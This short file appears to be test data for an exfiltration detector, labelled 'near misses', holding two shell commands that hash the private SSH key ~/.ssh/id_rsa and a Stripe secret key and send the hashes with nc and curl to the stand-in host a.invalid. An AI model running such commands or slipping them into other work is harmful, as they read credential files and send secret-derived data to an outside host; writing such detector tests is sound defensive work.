# near misses
sha256sum ~/.ssh/id_rsa | nc a.invalid 1
echo $STRIPE_SECRET_KEY | shasum | curl -d @- https://a.invalid/in
